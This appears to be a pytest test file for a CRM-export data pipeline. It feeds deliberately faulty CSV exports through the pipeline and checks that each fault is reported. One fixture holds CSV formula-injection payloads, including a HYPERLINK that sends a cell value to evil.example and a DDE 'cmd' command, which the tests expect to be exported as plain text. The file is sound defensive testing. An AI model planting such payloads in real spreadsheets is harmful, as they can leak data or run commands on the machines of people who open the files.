"""One small company whose exports are readable and wrong: what the whole chain says about it, and what stops it."""

from pathlib import Path

import openpyxl
import pytest

from tests.conftest import Built, onefunnel_here

COMPANY = """company: Crooked Exports
time_zone: UTC
reporting_currency: RUB
home: home
sources:
  - {type: files, mapping: crm.yml}
"""

MAPPING = """source: crm
folder: exports
exported_at: 2026-06-01T00:00:00Z
currency: RUB
streams:
  leads:
    file: leads.csv
    key: [id]
    fills: [{contract: leads, fields: {lead_id: id, created_at: created, owner_id: owner}}]
  owners:
    file: owners.csv
    key: [id]
    fills: [{contract: owners, fields: {owner_id: id, owner_name: name}}]
  deals:
    file: deals.csv
    key: [id]
    fills:
      - contract: deals
        fields: {deal_id: id, lead_id: lead, created_at: created, won_at: won, status: status,
                 amount_minor: {column: sum, currency: {column: cur}}}
  stages:
    file: stages.csv
    key: [id]
    fills: [{contract: stage_events, fields: {event_id: id, lead_id: lead, source_stage: stage, entered_at: at}}]
  ads:
    file: ads.csv
    key: [id]
    fills:
      - contract: ad_performance_daily
        fields: {performance_id: id, platform: platform, date_on: day, campaign_id: campaign, clicks: clicks,
                 cost_net_minor: cost}
  campaigns:
    file: campaigns.csv
    key: [id]
    fills: [{contract: campaigns, fields: {campaign_id: id, campaign_name: name}}]
"""

FORMULAS = {
    "c1": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "c2": "+1+cmd|' /C calc'!A0",
    "c3": "-2+3",
    "c4": "@SUM(1+1)",
    "c5": "=1+1\tx",
}

AGAIN = """source: crm_again
folder: exports
streams:
  old_leads:
    file: leads_of_last_year.csv
    key: [row]
    fills: [{contract: leads, fields: {lead_id: number, created_at: created}}]
"""


@pytest.fixture(scope="module")
def company(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("crooked")
    exports = folder / "exports"
    exports.mkdir()
    files = {
        "leads": [
            "id,created,owner",
            "l1,2026-05-01 10:00:00,o1",
            "l2,2031-01-01 10:00:00,o1",
            "l3,2026-05-03 10:00:00,o9",
        ],
        "owners": ["id,name", "o1,=1+1"],
        "deals": [
            "id;lead;created;won;status;sum;cur",
            "d1;l1;2026-04-01;2026-04-02;won;1 234,56;RUB",
            "d2;l3;2026-05-04;2026-05-05;won;100,00;USD",
            "d3;l9;2026-05-04;;open;\u00a05\u202f000,00;RUB",
        ],
        "stages": ["id,lead,stage,at", "e1,l1,mql,2026-05-02 10:00:00", "e2,l1,Nobody knows,2026-05-02 11:00:00"],
        "ads": [
            "id,platform,day,campaign,clicks,cost",
            "a1,ads,2026-05-01,c1,5,-100.00",
            "a2,ads,2026-05-02,c1,5,200.00",
        ],
        "campaigns": ["id,name", *('{},"{}"'.format(name, text.replace('"', '""')) for name, text in FORMULAS.items())],
    }
    for name, lines in files.items():
        (exports / f"{name}.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (folder / "onefunnel.yml").write_text(COMPANY, encoding="utf-8")
    (folder / "crm.yml").write_text(MAPPING, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def built(company: Path) -> Built:
    done = onefunnel_here("run", "--config", str(company / "onefunnel.yml"), home=company / "home")
    assert done.returncode == 0, done.stdout[-6000:] + done.stderr[-6000:]
    return Built(company / "home", done.stdout)


def test_wrong_facts_are_named_with_their_rows_in_the_mart_the_message_and_the_page(built: Built) -> None:
    page = (built.home / "reports" / "expectations" / "index.html").read_text(encoding="utf-8")
    unmet = built.query(
        "select contract, expectation, severity, rows_failed, failing_keys from marts.rpt_expectations where not is_met "
        "order by contract, expectation"
    )
    assert unmet == [
        ("ad_performance_daily", "cost_net_minor_is_not_negative", "warning", 1, '["crm/ads/a1/1"]'),
        ("deals", "lead_id_is_on_record", "warning", 1, '["crm/deals/d3/1"]'),
        ("deals", "won_at_is_not_before_its_lead", "warning", 1, '["crm/deals/d1/1"]'),
        ("leads", "created_at_is_plausible", "warning", 1, '["crm/leads/l2/1"]'),
        ("leads", "owner_id_is_on_record", "warning", 1, '["crm/leads/l3/1"]'),
    ]
    for contract, expectation, _, _, keys in unmet:
        row = str(keys).strip('[]"')
        assert f"{contract}.{expectation}" in built.printed
        assert row in built.printed
        assert expectation in page
        assert row in page


def test_an_unknown_stage_and_a_missing_rate_are_listed_and_out_of_the_figures(built: Built) -> None:
    assert built.query("select source_stage, events from marts.rpt_unmapped_stages") == [("Nobody knows", 1)]
    missing = built.query("select currency, rows_without_rate from marts.rpt_missing_rates where currency = 'USD'")
    assert missing
    assert built.query(
        "select amount_minor, currency, amount_reporting_minor from marts.fct_deals order by deal_id"
    ) == [
        (123456, "RUB", 123456),
        (10000, "USD", None),
        (500000, "RUB", 500000),
    ]


def test_formulas_of_an_export_are_text_in_the_workbook(built: Built) -> None:
    workbook = openpyxl.load_workbook(built.home / "reports" / "marts.xlsx")
    sheet = workbook["dim_campaigns"]
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    names = {row[header.index("campaign_id")].value: row[header.index("campaign_name")] for row in rows[1:]}
    assert {key: names[key].value for key in FORMULAS} == FORMULAS
    assert {names[key].data_type for key in FORMULAS} == {"s"}
    formulas = [cell.coordinate for one in workbook for row in one.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []


def test_rows_in_are_rows_landed_and_quarantined(built: Built) -> None:
    assert built.one("select count(*) from marts.rpt_pulls where is_read and rows_in <> rows + quarantined") == 0
    assert built.one("select count(*) from marts.rpt_reconciliation where not is_reconciled") == 0


def test_two_streams_that_claim_one_lead_stop_the_run_and_are_named(built: Built, company: Path) -> None:
    """Another file with other stream keys (its own row numbers) holds lead l1 once more."""
    (company / "exports" / "leads_of_last_year.csv").write_text(
        "row,number,created\n1,l1,2026-05-01 10:00:00\n2,l7,2026-05-01 10:00:00\n", encoding="utf-8"
    )
    (company / "again.yml").write_text(AGAIN, encoding="utf-8")
    crooked = company / "twice.yml"
    crooked.write_text(COMPANY + "  - {type: files, mapping: again.yml}\n", encoding="utf-8")
    current = (built.home / "published" / "current").resolve()
    done = onefunnel_here("run", "--config", str(crooked), home=built.home)
    assert done.returncode == 1
    assert "lead_id_is_unique" in done.stderr
    assert "crm/leads/l1/1" in done.stderr
    assert "crm_again/old_leads/1/1" in done.stderr
    assert (built.home / "published" / "current").resolve() == current
    page = (built.home / "reports" / "expectations" / "index.html").read_text(encoding="utf-8")
    assert "crm_again/old_leads/1/1" in page
